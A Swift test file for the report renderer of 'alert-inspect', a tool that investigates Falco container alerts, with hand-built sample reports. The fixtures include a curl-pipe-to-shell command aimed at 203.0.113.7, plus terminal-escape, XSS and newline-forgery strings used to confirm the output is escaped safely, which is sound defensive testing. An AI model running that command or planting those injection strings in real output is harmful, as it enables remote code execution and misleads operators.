import Foundation
import Testing

@testable import Investigation
import Reporting
import SafeText

@Suite struct ReportingTests {
    private let plain = ReportRenderer(colored: false)

    // MARK: JSON

    @Test func `json carries the schema and sorts every object's keys`() throws {
        let json = try plain.render(SampleReport.confirmed(), as: .json)
        #expect(json.contains(#""schema" : "alert-inspect/report/v1""#))
        let topLevel = json.split(separator: "\n").filter { $0.hasPrefix(#"  ""#) }.map { $0.dropFirst(3).prefix { $0 != "\"" } }
        #expect(topLevel == topLevel.sorted())
        #expect(topLevel.starts(with: ["alert", "claims", "container", "drift", "engine", "events", "executable"]))
        for object in try objects(in: Data(json.utf8)) {
            #expect(object == object.sorted(), "\(object)")
        }
        #expect(json.contains(#""path" : "/tmp/x""#), "slashes are not escaped")
        #expect(json.hasSuffix("}\n"))
    }

    @Test func `json keeps alert fields digit for digit, beyond Int64 too`() throws {
        let json = try plain.render(SampleReport.confirmed(), as: .json)
        #expect(json.contains(#""proc.exe_ino.mtime" : 3131117737353637036"#))
        #expect(json.contains(#""evt.time.iso8601" : 1775503946587080930"#))
        #expect(json.contains(#""proc.exe_ino.ctime_duration_proc_start" : 18446744073670260079"#))
        #expect(json.contains(#""user.loginuid" : -1"#))
        #expect(json.contains(#""k8s.ns.name" : null"#))
        #expect(json.contains(#""proc.sname" : """#))
        let decoded = try JSONDecoder().decode(InvestigationReport.self, from: Data(json.utf8))
        #expect(decoded == SampleReport.confirmed())
    }

    @Test func `json stays exact for hostile strings and holds nothing a terminal would act on`() throws {
        let report = SampleReport.hostile()
        let json = try plain.render(report, as: .json)
        #expect(!json.unicodeScalars.contains { $0 != "\n" && TerminalText.needsEscaping($0) })
        #expect(json.contains(#"\u001b]0;pwned\u0007"#) || json.contains(#"\u001B]0;pwned\u0007"#))
        #expect(json.contains(#"\u202e"#))
        let decoded = try JSONDecoder().decode(InvestigationReport.self, from: Data(json.utf8))
        #expect(decoded == report)
    }

    // MARK: Text

    @Test func `text puts the verdict on the first line`() throws {
        let confirmed = try plain.render(SampleReport.confirmed(), as: .text).split(separator: "\n")
        #expect(confirmed.first == "CONFIRMED  Drop and execute new binary in container — /tmp/x in 3f2a1b9c4d5e (web)")
        #expect(confirmed.dropFirst().first == "  3 of 3 claims corroborated · Critical alert at 2026-04-06T15:32:10.317643960Z · container running")

        let disputed = try plain.render(SampleReport.disputed(), as: .text).split(separator: "\n")
        #expect(disputed.first == "DISPUTED  Drop and execute new binary in container — /usr/bin/curl in 9c0ffee12345 (api)")
        #expect(disputed.dropFirst().first?.hasPrefix("  1 of 3 claims corroborated, 1 contradicted, 1 unverifiable") == true)

        let gone = try plain.render(SampleReport.containerGone(), as: .text).split(separator: "\n")
        #expect(gone.first == "INCONCLUSIVE  no alert, container not found")
    }

    @Test func `text lists every claim with its statement, reason and evidence`() throws {
        for report in [SampleReport.confirmed(), SampleReport.disputed(), SampleReport.containerGone()] {
            let text = try plain.render(report, as: .text)
            for claim in report.claims {
                let line = "  \(claim.verdict.rawValue)  \(claim.id.rawValue)"
                #expect(text.contains(line), "\(line)")
                #expect(text.contains(claim.statement))
                #expect(text.contains(claim.reason))
                for evidence in claim.evidence { #expect(text.contains(evidence), "\(evidence)") }
            }
        }
    }

    @Test func `text shows the executable, sorted risks, logs, events, drift and processes`() throws {
        let text = try plain.render(SampleReport.confirmed(), as: .text)
        #expect(text.contains("  sha256       \(SampleReport.sha256)"))
        #expect(text.contains("  size         18432 bytes (18.0 KiB)"))
        #expect(text.contains("  process      pid 4242, running"))
        let privileged = try #require(text.range(of: "  high    privileged"))
        let root = try #require(text.range(of: "  medium  root-user"))
        let noNewPrivileges = try #require(text.range(of: "  low     no-new-privileges-off"))
        #expect(privileged.lowerBound < root.lowerBound && root.lowerBound < noNewPrivileges.lowerBound)
        #expect(text.contains("  2026-04-06T15:32:09.912000000Z  stderr  fetching payload from 203.0.113.7"))
        #expect(text.contains("Engine events  the engine keeps only its last 256 events"))
        #expect(text.contains("  added     /tmp/x" + String(repeating: " ", count: 24) + "  executable"))
        #expect(text.contains("  4242  root  /tmp/x -c beacon"))
        #expect(text.contains("    com.docker.compose.project  shop"))
        #expect(text.contains("    proc.exe_ino.ctime_duration_proc_start  18446744073670260079"))
        #expect(text.contains("    k8s.ns.name                             <NA>"))
    }

    @Test func `a long log shows a screenful around the alert time and says what it left out`() throws {
        var report = SampleReport.confirmed()
        // One line a second from 15:31:00 to 15:32:39; the alert fired at 15:32:10.317…
        report.logs.lines = (0..<100).map { second in
            let time = String(format: "2026-04-06T15:%02d:%02d.000000000Z", 31 + second / 60, second % 60)
            return .init(time: time, stream: "stdout", text: "tick \(second)")
        }
        let text = try plain.render(report, as: .text)
        #expect(text.contains("Logs  2026-04-06T15:30:10Z to 2026-04-06T15:34:10Z, 100 lines\n  … 59 earlier lines (the JSON report has all)\n"))
        #expect(text.contains("  2026-04-06T15:32:11.000000000Z  stdout  tick 71\n"))
        #expect(text.contains("tick 59\n") && text.contains("tick 82\n"))
        #expect(!text.contains("tick 58\n") && !text.contains("tick 83\n"))
        #expect(text.contains("  … 17 later lines (the JSON report has all)\n"))
        let markdown = try plain.render(report, as: .markdown)
        #expect(markdown.contains("… 59 earlier lines (the JSON report has all).\n\n```text\n2026-04-06T15:31:59.000000000Z  stdout  tick 59\n"))

        // Without an alert time, the latest lines, as `docker logs --tail` would show.
        report.alert = nil
        let tail = try plain.render(report, as: .text)
        #expect(tail.contains("… 76 earlier lines") && tail.contains("tick 99\n") && !tail.contains("later line"))
        #expect(try plain.render(report, as: .json).contains("tick 0"))
    }

    @Test func `the events caveat fits the engine, and the tool's own reads are pointed out`() throws {
        var report = SampleReport.confirmed()
        let docker = try plain.render(report, as: .text)
        #expect(!docker.contains("own reads"))
        report.engine.isPodman = true
        report.events.append(.init(time: "2026-04-06T15:33:01Z", action: "archive-path", detail: "path /tmp/x"))
        let podman = try plain.render(report, as: .text)
        #expect(podman.contains("Engine events  from Podman's persistent event log\n"))
        #expect(podman.contains("  top and archive-path events can be this tool's own reads\n"))
        #expect(try plain.render(report, as: .markdown).contains("\n\nTop and archive-path events can be this tool's own reads.\n"))
    }

    @Test func `text indents a multi-line next step under its sentence`() throws {
        let text = try plain.render(SampleReport.confirmed(), as: .text)
        #expect(text.contains("""
              2. If /tmp/x is expected in this image, add a Falco exception in a rules file loaded after falco_rules.yaml:
                   - rule: Drop and execute new binary in container
                     exceptions:
                       - name: web_tmp_x
            """))
        #expect(text.contains("         override:\n           exceptions: append\n"))
    }

    @Test func `text for a vanished container says what could not be checked`() throws {
        let text = try plain.render(SampleReport.containerGone(), as: .text)
        #expect(text.contains("Container\n  not found on the engine"))
        #expect(text.contains("Executable\n  not identified"))
        #expect(text.contains("  unverifiable  container-identity"))
        #expect(text.contains("Limitations\n  - the container no longer exists"))
        #expect(!text.contains("What to do next"))
        // Empty because nothing could be read, not because the container was clean.
        for section in ["Risks", "Logs", "Drift", "Processes"] {
            #expect(text.contains("\n\(section)\n  not checked: the container is not on the engine\n"), "\(section)")
        }
        let markdown = try plain.render(SampleReport.containerGone(), as: .markdown)
        #expect(markdown.hasPrefix("# INCONCLUSIVE: no alert, container not found\n\n**0 of 1 claim corroborated, 1 unverifiable**\n"))
        #expect(markdown.contains("## Drift\n\nNot checked: the container is not on the engine.\n"))
    }

    @Test func `text is colourless unless asked, and coloured when asked`() throws {
        let report = SampleReport.confirmed()
        let plainText = try plain.render(report, as: .text)
        #expect(!plainText.contains("\u{1B}"))
        let colored = try ReportRenderer(colored: true).render(report, as: .text)
        #expect(colored.hasPrefix("\u{1B}[1;31mCONFIRMED\u{1B}[0m  Drop and execute"))
        #expect(colored.contains("\u{1B}[1mClaims\u{1B}[0m"))
        #expect(colored.contains("\u{1B}[1;31mhigh  \u{1B}[0m"))
        #expect(stripped(colored) == plainText)
        // Markdown and JSON never carry colour.
        #expect(try !ReportRenderer(colored: true).render(report, as: .markdown).contains("\u{1B}"))
        #expect(try !ReportRenderer(colored: true).render(report, as: .json).contains("\u{1B}"))
    }

    @Test(arguments: [false, true])
    func `hostile alert, container and log strings never reach the terminal raw`(colored: Bool) throws {
        let text = try ReportRenderer(colored: colored).render(SampleReport.hostile(), as: .text)
        let unsafe = stripped(text).unicodeScalars.filter { $0 != "\n" && TerminalText.needsEscaping($0) }
        #expect(unsafe.isEmpty, "\(unsafe.map { String($0.value, radix: 16) })")
        #expect(text.contains(#"\x1b]0;pwned\x07"#))
        #expect(text.contains(#"\x1b[2J"#))
        #expect(text.contains(#"\x08\x08\x08"#))
        #expect(text.contains(#"\x00"#))
        #expect(text.contains(#"\r"#))
        #expect(text.contains(#"\u{202e}"#))
        #expect(text.contains(#"\u{9b}"#))
        #expect(text.contains(#"\nCONFIRMED  fake verdict"#), "a newline in a value can't start a report line")
        #expect(!text.split(separator: "\n").dropFirst().contains { $0.hasPrefix("CONFIRMED") })
    }

    // MARK: Markdown

    @Test func `markdown leads with the verdict and tables the claims and risks`() throws {
        let markdown = try plain.render(SampleReport.confirmed(), as: .markdown)
        let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.first == "# CONFIRMED: Drop and execute new binary in container — `/tmp/x` in `3f2a1b9c4d5e` (web)")
        #expect(lines.contains("| **corroborated** | `upper-layer` | The executable lives in the container's writable layer (EXE\\_UPPER\\_LAYER) |"))
        #expect(lines.contains("| **high** | `privileged` | the container runs privileged: every device and capability of the host |"))
        #expect(lines.contains("- **sha256:** `\(SampleReport.sha256)`"))
        #expect(lines.contains("| `evt.arg.flags` | `EXE_WRITABLE\\|EXE_UPPER_LAYER` |"))
        #expect(markdown.contains("Note: the engine keeps only its last 256 events"))
        #expect(markdown.hasSuffix("\n") && !markdown.hasSuffix("\n\n"))
    }

    @Test func `markdown puts a multi-line next step in a code block inside its list item`() throws {
        let markdown = try plain.render(SampleReport.confirmed(), as: .markdown)
        #expect(markdown.contains("""
            2. If /tmp/x is expected in this image, add a Falco exception in a rules file loaded after falco\\_rules.yaml:

               ```yaml
               - rule: Drop and execute new binary in container
                 exceptions:
            """))
        #expect(markdown.contains("       exceptions: append\n   ```\n"))
        #expect(markdown.contains("3. Stop the container once the evidence is kept:\n\n   ```sh\n   docker stop web\n   ```"))
    }

    @Test func `markdown escapes pipes in table cells and backticks in code`() throws {
        let markdown = try plain.render(SampleReport.disputed(), as: .markdown)
        let lines = markdown.split(separator: "\n").map(String.init)
        // The command holds backticks and a pipe: a longer fence, and the pipe escaped for the table.
        #expect(lines.contains("| 31337 | www-data | `` sh -c `curl -s http://203.0.113.7/x \\| sh` `` |"))
        #expect(lines.contains { $0.contains(#"a \| b"#) })
        for table in tables(in: lines) {
            #expect(Set(table.map(cellCount)).count == 1, "\(table)")
        }
    }

    @Test func `hostile strings are escaped in markdown too`() throws {
        let markdown = try plain.render(SampleReport.hostile(), as: .markdown)
        let unsafe = markdown.unicodeScalars.filter { $0 != "\n" && TerminalText.needsEscaping($0) }
        #expect(unsafe.isEmpty, "\(unsafe.map { String($0.value, radix: 16) })")
        #expect(markdown.contains(#"rule\\x1b\]0;pwned\\x07\\x1b\[2J"#))
        #expect(markdown.contains(#"`/tmp/x\x1b]0;pwned\x07"#))
        // Outside code, the payload's HTML, link and code markers are all backslash-escaped.
        let prose = outsideCode(markdown)
        #expect(prose.contains(#"\<img src=x onerror=alert(1)\>\|\`\[x\](y)"#))
        for marker in ["<img", "[x]", "`["] {
            let bare = prose.ranges(of: marker).filter { $0.lowerBound == prose.startIndex || prose[prose.index(before: $0.lowerBound)] != "\\" }
            #expect(bare.isEmpty, "\(marker)")
        }
        let lines = markdown.split(separator: "\n")
        #expect(!lines.contains { $0.hasPrefix("CONFIRMED") })
        #expect(lines.filter { $0.hasPrefix("# ") }.count == 1)
        for table in tables(in: lines.map(String.init)) {
            #expect(Set(table.map(cellCount)).count == 1, "\(table)")
        }
    }

    // MARK: Helpers

    /// Every JSON object's keys in document order, found by walking the text (a decoder would lose the order).
    private func objects(in data: Data) throws -> [[String]] {
        let text = String(decoding: data, as: UTF8.self)
        var stack: [[String]] = []
        var done: [[String]] = []
        var inString = false
        var escaped = false
        var current = ""
        var lastString: String?
        for character in text {
            if inString {
                if escaped { escaped = false; current.append(character) }
                else if character == "\\" { escaped = true }
                else if character == "\"" { inString = false; lastString = current }
                else { current.append(character) }
                continue
            }
            switch character {
            case "\"": inString = true; current = ""
            case "{": stack.append([])
            case "}": if let keys = stack.popLast() { done.append(keys) }
            case ":": if let key = lastString, !stack.isEmpty { stack[stack.count - 1].append(key) }
            default: break
            }
        }
        return done
    }

    /// The Markdown with fenced blocks and code spans taken out: what is read as Markdown.
    private func outsideCode(_ markdown: String) -> String {
        var prose: [String] = []
        var openFence: Int?
        for line in markdown.split(separator: "\n", omittingEmptySubsequences: false) {
            let trimmed = line.drop { $0 == " " }
            let run = trimmed.prefix { $0 == "`" }.count
            if let fence = openFence {
                if run >= fence && trimmed.allSatisfy({ $0 == "`" }) { openFence = nil }
                continue
            }
            if run >= 3 { openFence = run; continue }
            prose.append(removingCodeSpans(String(line)))
        }
        return prose.joined(separator: "\n")
    }

    private func removingCodeSpans(_ line: String) -> String {
        var result = ""
        var rest = Substring(line)
        while let start = rest.firstIndex(of: "`") {
            let before = rest[..<start]
            let escapedTick = before.reversed().prefix { $0 == "\\" }.count % 2 == 1
            let run = rest[start...].prefix { $0 == "`" }
            var search = rest[run.endIndex...]
            var closed = false
            while !escapedTick, let next = search.firstIndex(of: "`") {
                let closing = search[next...].prefix { $0 == "`" }
                if closing.count == run.count {
                    result += before
                    rest = search[closing.endIndex...]
                    closed = true
                    break
                }
                search = search[closing.endIndex...]
            }
            if !closed {
                result += rest[..<run.endIndex]
                rest = rest[run.endIndex...]
            }
        }
        return result + rest
    }

    private func stripped(_ text: String) -> String {
        text.replacingOccurrences(of: #"\u001B\[[0-9;]*m"#, with: "", options: .regularExpression)
    }

    /// Cells in a table row, counting only the pipes GitHub's table parser splits on.
    private func cellCount(_ line: String) -> Int {
        var count = 0
        var backslashes = 0
        for character in line {
            if character == "|", backslashes % 2 == 0 { count += 1 }
            backslashes = character == "\\" ? backslashes + 1 : 0
        }
        return count - 1
    }

    private func tables(in lines: [String]) -> [[String]] {
        var tables: [[String]] = []
        var current: [String] = []
        for line in lines + [""] {
            if line.hasPrefix("|") { current.append(line) } else if !current.isEmpty { tables.append(current); current = [] }
        }
        return tables
    }
}

/// Reports as an investigation would make them, built by hand so each test reads what it checks.
enum SampleReport {
    static let sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    static let containerID = "3f2a1b9c4d5e8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b"

    static func engine() -> InvestigationReport.Engine {
        .init(
            endpoint: "unix:///var/run/docker.sock", apiVersion: "1.47", serverVersion: "29.0.1", storageDriver: "overlay2",
            hostAccess: .init(upperDirVisible: true, procVisible: true, containerdImageStore: false, detail: "on the engine's host as root"),
            isPodman: false
        )
    }

    static func confirmed() -> InvestigationReport {
        let alert = InvestigationReport.Alert(
            rule: "Drop and execute new binary in container", priority: "Critical", time: "2026-04-06T15:32:10.317643960Z",
            source: "syscall", hostname: "0537260329c3", containerId: "3f2a1b9c4d5e", containerName: "web", image: "nginx:1.27",
            exePath: "/tmp/x", cmdline: "x -c beacon", flags: ["EXE_WRITABLE", "EXE_UPPER_LAYER"],
            fields: [
                "evt.time.iso8601": .number("1775503946587080930"),
                "proc.exe_ino.mtime": .number("3131117737353637036"),
                "proc.exe_ino.ctime_duration_proc_start": .number("18446744073670260079"),
                "user.loginuid": .number("-1"),
                "k8s.ns.name": .null,
                "proc.sname": .string(""),
                "proc.exepath": .string("/tmp/x"),
                "evt.arg.flags": .string("EXE_WRITABLE|EXE_UPPER_LAYER"),
                "container.id": .string("3f2a1b9c4d5e"),
            ],
            unreadable: nil
        )
        let container = InvestigationReport.Container(
            id: containerID, name: "web", image: "nginx:1.27",
            imageId: "sha256:4e1b1d4a7c1e0b6f9f5d8c3a2b1e0f9d8c7b6a5e4d3c2b1a0f9e8d7c6b5a4f3e",
            labels: ["com.docker.compose.project": "shop", "com.docker.compose.service": "web"],
            state: .init(status: "running", running: true, pid: 4100, startedAt: "2026-04-06T15:20:01.118Z", finishedAt: nil, restartCount: 0)
        )
        return InvestigationReport(
            generatedAt: "2026-04-06T15:33:02Z", tool: .init(name: "alert-inspect", version: "0.1.0"), engine: engine(),
            alert: alert, container: container,
            claims: [
                .init(
                    id: .containerIdentity, statement: "The alert's container id, name, image and start time are this container's",
                    verdict: .corroborated, reason: "id prefix, name, image and start time all match",
                    evidence: ["inspect Id 3f2a1b9c4d5e… starts with the alert's 3f2a1b9c4d5e", "State.StartedAt 2026-04-06T15:20:01.118Z = container.start_ts"]
                ),
                .init(
                    id: .upperLayer, statement: "The executable lives in the container's writable layer (EXE_UPPER_LAYER)",
                    verdict: .corroborated, reason: "/changes lists /tmp/x as added",
                    evidence: ["GET /containers/3f2a1b9c4d5e/changes: A /tmp/x", "upper dir: /tmp/x, ctime 2026-04-06T15:32:10.3Z"]
                ),
                .init(
                    id: .notInImage, statement: "The executable is not the image's own file",
                    verdict: .corroborated, reason: "no layer of nginx:1.27 holds /tmp/x",
                    evidence: ["image history: 7 layers, none adds /tmp/x"]
                ),
            ],
            verdict: .confirmed,
            executable: .init(path: "/tmp/x", change: .added, sha256: sha256, size: 18432, mode: "-rwxr-xr-x", pid: 4242, running: true, source: "engine archive endpoint"),
            risks: [
                .init(id: "root-user", severity: .medium, detail: "processes run as root (no USER in the image)"),
                .init(id: "privileged", severity: .high, detail: "the container runs privileged: every device and capability of the host"),
                .init(id: "no-new-privileges-off", severity: .low, detail: "setuid binaries can raise privileges"),
            ],
            logs: .init(
                since: "2026-04-06T15:30:10Z", until: "2026-04-06T15:34:10Z", truncated: false,
                lines: [
                    .init(time: "2026-04-06T15:32:09.912000000Z", stream: "stderr", text: "fetching payload from 203.0.113.7"),
                    .init(time: "2026-04-06T15:32:10.300000000Z", stream: "stdout", text: "ok"),
                ]
            ),
            events: [.init(time: "2026-04-06T15:32:05Z", action: "exec_start: sh -c wget", detail: "exec by root")],
            mitigations: [
                "Keep the evidence before anything changes: alert-inspect collect 3f2a1b9c4d5e --out case-3f2a",
                """
                If /tmp/x is expected in this image, add a Falco exception in a rules file loaded after falco_rules.yaml:
                - rule: Drop and execute new binary in container
                  exceptions:
                    - name: web_tmp_x
                      fields: [container.image.repository, proc.exepath]
                      comps: [=, =]
                      values:
                        - [nginx, /tmp/x]
                  override:
                    exceptions: append
                """,
                "Stop the container once the evidence is kept:\ndocker stop web",
            ],
            drift: [
                .init(path: "/tmp", kind: .modified, executable: false),
                .init(path: "/tmp/x", kind: .added, executable: true),
                .init(path: "/etc/nginx/conf.d/default.conf", kind: .modified, executable: nil),
            ],
            processes: [
                .init(pid: 4100, user: "root", command: "nginx: master process nginx -g daemon off;"),
                .init(pid: 4242, user: "root", command: "/tmp/x -c beacon"),
            ],
            limitations: []
        )
    }

    /// The alert says the binary was dropped, but the image ships it unchanged.
    static func disputed() -> InvestigationReport {
        var report = confirmed()
        report.verdict = .disputed
        report.alert?.rule = "Drop and execute new binary in container"
        report.alert?.containerId = "9c0ffee12345"
        report.alert?.containerName = "api"
        report.alert?.exePath = "/usr/bin/curl"
        report.container?.id = "9c0ffee12345" + String(repeating: "ab", count: 26)
        report.container?.name = "api"
        report.claims = [
            .init(
                id: .containerIdentity, statement: "The alert's container id, name, image and start time are this container's",
                verdict: .corroborated, reason: "all match", evidence: ["Name api"]
            ),
            .init(
                id: .upperLayer, statement: "The executable lives in the container's writable layer",
                verdict: .contradicted, reason: "/changes does not list /usr/bin/curl and the upper dir has no such file",
                evidence: ["GET /containers/9c0ffee12345/changes: 2 entries, none is /usr/bin/curl", "a | b in the evidence"]
            ),
            .init(
                id: .notInImage, statement: "The executable is not the image's own file",
                verdict: .unverifiable, reason: "the image's layers are not visible (containerd image store)", evidence: []
            ),
        ]
        report.executable = .init(path: "/usr/bin/curl", change: .unchanged, sha256: nil, size: nil, mode: nil, pid: nil, running: false, source: nil)
        report.processes = [.init(pid: 31337, user: "www-data", command: "sh -c `curl -s http://203.0.113.7/x | sh`")]
        return report
    }

    /// Started from a container name that no longer exists: nothing to read, everything said plainly.
    static func containerGone() -> InvestigationReport {
        InvestigationReport(
            generatedAt: "2026-04-06T15:33:02Z", tool: .init(name: "alert-inspect", version: "0.1.0"), engine: engine(),
            alert: nil, container: nil,
            claims: [
                .init(
                    id: .containerIdentity, statement: "The container exists on this engine",
                    verdict: .unverifiable, reason: "container gone: the engine has no container named eventgen", evidence: ["GET /containers/eventgen/json: 404 No such container"]
                )
            ],
            verdict: .inconclusive, executable: nil, risks: [],
            logs: .init(since: nil, until: nil, truncated: false, lines: []), events: [], mitigations: [], drift: [],
            processes: [], limitations: ["the container no longer exists; its layer, logs and processes went with it"]
        )
    }

    /// Every free-form string carries terminal and Markdown attacks.
    static func hostile() -> InvestigationReport {
        let attack = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{08}\u{08}\u{08}\u{00}\r\u{202E}\u{9B}31m<img src=x onerror=alert(1)>|`[x](y)\nCONFIRMED  fake verdict"
        func hostile(_ text: String) -> String { text + attack }
        var report = confirmed()
        report.alert?.rule = hostile("rule")
        report.alert?.priority = hostile("Critical")
        report.alert?.time = hostile("time")
        report.alert?.hostname = hostile("host")
        report.alert?.containerName = hostile("web")
        report.alert?.cmdline = hostile("x")
        report.alert?.flags = [hostile("EXE")]
        report.alert?.unreadable = [hostile("proc.pid")]
        report.alert?.fields[hostile("key")] = .string(hostile("value"))
        report.alert?.fields["nested"] = .array([.string(hostile("a")), .object([hostile("k"): .null])])
        report.container?.name = hostile("/web")
        report.container?.image = hostile("nginx")
        report.container?.labels = [hostile("label"): hostile("value")]
        report.container?.state.status = hostile("running")
        report.claims[0].statement = hostile("statement")
        report.claims[0].reason = hostile("reason")
        report.claims[0].evidence = [hostile("evidence")]
        report.executable?.path = hostile("/tmp/x")
        report.executable?.mode = hostile("-rwx")
        report.executable?.source = hostile("archive")
        report.risks[0].id = hostile("risk")
        report.risks[0].detail = hostile("detail")
        report.logs.lines = [.init(time: hostile("t"), stream: hostile("stdout"), text: hostile("log"))]
        report.events = [.init(time: hostile("t"), action: hostile("exec_start"), detail: hostile("detail"))]
        report.drift = [.init(path: hostile("/tmp/x"), kind: .added, executable: true)]
        report.processes = [.init(pid: 1, user: hostile("root"), command: hostile("sh"))]
        report.limitations = [hostile("limitation")]
        report.mitigations = [NextStep(text: hostile("step")), NextStep(text: "step with a block:\n" + hostile("- rule: x"))]
        report.engine.endpoint = hostile("unix:///run/docker.sock")
        report.engine.hostAccess.detail = hostile("detail")
        report.generatedAt = hostile("now")
        return report
    }
}
